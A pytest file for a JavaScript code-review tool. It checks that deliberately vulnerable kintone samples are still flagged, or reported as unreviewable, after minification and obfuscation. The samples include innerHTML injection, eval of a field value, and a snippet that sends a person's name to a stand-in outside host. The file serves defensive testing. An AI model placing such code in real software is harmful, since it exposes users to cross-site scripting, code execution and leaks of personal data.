"""What minifiers and obfuscators make of vulnerable code stays found, or is said to be unreviewable; never neither."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Mapping, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from reviewer.intake import read
from reviewer.pipeline import review
from reviewer.review import Review, Verdict
from reviewer.rule import Policy, Rulebook, SemgrepCheck, Severity

Rules = tuple[Rulebook, Policy]
Options = Mapping[str, object]

# Each does one thing that is found when it is written plainly, under the category named.
VULNERABLE: Mapping[str, str] = {
    "dom-xss": """(function () {
  'use strict';
  kintone.events.on('app.record.detail.show', function (event) {
    var place = kintone.app.record.getSpaceElement('summary');
    place.innerHTML = '<p>' + event.record['備考'].value + '</p>';
    return event;
  });
})();
""",
    "data-egress": """(() => {
  'use strict';
  kintone.events.on('app.record.edit.submit.success', async (event) => {
    const person = event.record['氏名'].value;
    await kintone.proxy('https://collect.example.net/in', 'POST', {}, { person });
    return event;
  });
})();
""",
    "code-exec": """(() => {
  'use strict';
  kintone.events.on('app.record.index.show', (event) => {
    const formula = event.records[0].計算式.value;
    eval(formula);
    return event;
  });
})();
""",
}

WORDS = ["kensu", "goukei", "hyouji", "bangou", "namae", "atai", "youso", "ichiran", "kekka", "taishou"]
ORDINARY_NAMES: Options = {
    "identifierNamesGenerator": "dictionary",
    "identifiersDictionary": WORDS,
    "compact": False,
    "stringArrayThreshold": 1,
    "stringArrayRotate": False,
}

OBFUSCATIONS: Mapping[str, Options] = {
    "default": {"optionsPreset": "default"},
    "low": {"optionsPreset": "low-obfuscation"},
    "medium": {"optionsPreset": "medium-obfuscation"},
    "high": {"optionsPreset": "high-obfuscation"},
    "mangled names": {"identifierNamesGenerator": "mangled", "compact": False},
    "no list of strings": {"stringArray": False, "identifierNamesGenerator": "mangled", "transformObjectKeys": True},
    "escape sequences": {"unicodeEscapeSequence": True, "stringArray": False, "identifierNamesGenerator": "mangled"},
    "ordinary names": {**ORDINARY_NAMES, "stringArrayEncoding": ["base64"]},
    "ordinary names, encrypted strings": {
        **ORDINARY_NAMES,
        "stringArrayEncoding": ["rc4"],
        "stringArrayCallsTransform": True,
    },
    "ordinary names, wrapped lookups": {
        **ORDINARY_NAMES,
        "stringArrayIndexesType": ["hexadecimal-numeric-string"],
        "stringArrayWrappersType": "function",
        "stringArrayWrappersCount": 3,
    },
}
MINIFICATIONS: Mapping[str, Options] = {
    "defaults": {},
    "laid out": {"format": {"beautify": True}},
    "everything": {"toplevel": True, "compress": {"passes": 3, "unsafe": True}},
}

MAKE = """
const [modules, tool, options, codes] = process.argv.slice(1).map((each, at) => at < 2 ? each : JSON.parse(each));
(async () => {
  const made = [];
  for (const code of codes) {
    made.push(tool === 'terser'
      ? (await require(`${modules}/terser`).minify(code, options)).code
      : require(`${modules}/javascript-obfuscator`).obfuscate(code, { seed: 1, ...options }).getObfuscatedCode());
  }
  process.stdout.write(JSON.stringify(made));
})();
"""


def made_by(node: Path, modules: Path, tool: str, options: Options, codes: Sequence[str]) -> list[str]:
    done = subprocess.run(
        [node, "-e", MAKE, str(modules), tool, json.dumps(options), json.dumps(codes)],
        check=True,
        capture_output=True,
        encoding="utf-8",
        timeout=120,
    )
    made: list[str] = json.loads(done.stdout)
    return made


def reviewed(rules: Rules, path: Path, code: str) -> Review:
    """The review without Semgrep, which has no part in this and takes seconds."""
    book, policy = rules
    own = replace(book, rules=tuple(rule for rule in book.rules if not isinstance(rule.check, SemgrepCheck)))
    path.write_text(code, encoding="utf-8")
    return review(read(path), own, policy)


def categories(result: Review) -> set[str]:
    return {each.rule.category.value for each in result.findings if each.rule.severity.rank <= Severity.MEDIUM.rank}


@pytest.mark.parametrize("options", MINIFICATIONS.values(), ids=MINIFICATIONS)
def test_a_vulnerable_sample_stays_found_after_a_minifier(
    rules: Rules, node: Path, npm_packages: Path, tmp_path: Path, options: Options
) -> None:
    made = made_by(node, npm_packages, "terser", options, list(VULNERABLE.values()))
    found = [categories(reviewed(rules, tmp_path / "made.js", code)) for code in made]
    assert [name in each for name, each in zip(VULNERABLE, found, strict=True)] == [True] * len(VULNERABLE)


@pytest.mark.parametrize("options", OBFUSCATIONS.values(), ids=OBFUSCATIONS)
def test_after_an_obfuscator_it_is_found_or_said_to_be_unreviewable(
    rules: Rules, node: Path, npm_packages: Path, tmp_path: Path, options: Options
) -> None:
    made = made_by(node, npm_packages, "obfuscator", options, list(VULNERABLE.values()))
    results = [reviewed(rules, tmp_path / "made.js", code) for code in made]
    told = [
        name in categories(result) or any(gap.kind == "unreadable-code" and gap.blocking for gap in result.gaps)
        for name, result in zip(VULNERABLE, results, strict=True)
    ]
    assert told == [True] * len(VULNERABLE)
    assert Verdict.PASS not in {result.verdict for result in results}


def test_an_obfuscator_followed_by_a_minifier_hides_nothing_more(
    rules: Rules, node: Path, npm_packages: Path, tmp_path: Path
) -> None:
    obfuscated = made_by(node, npm_packages, "obfuscator", OBFUSCATIONS["medium"], list(VULNERABLE.values()))
    made = made_by(node, npm_packages, "terser", MINIFICATIONS["everything"], obfuscated)
    gaps = [reviewed(rules, tmp_path / "made.js", code).gaps for code in made]
    assert [[gap.kind for gap in each if gap.blocking] for each in gaps] == [["unreadable-code"]] * len(made)
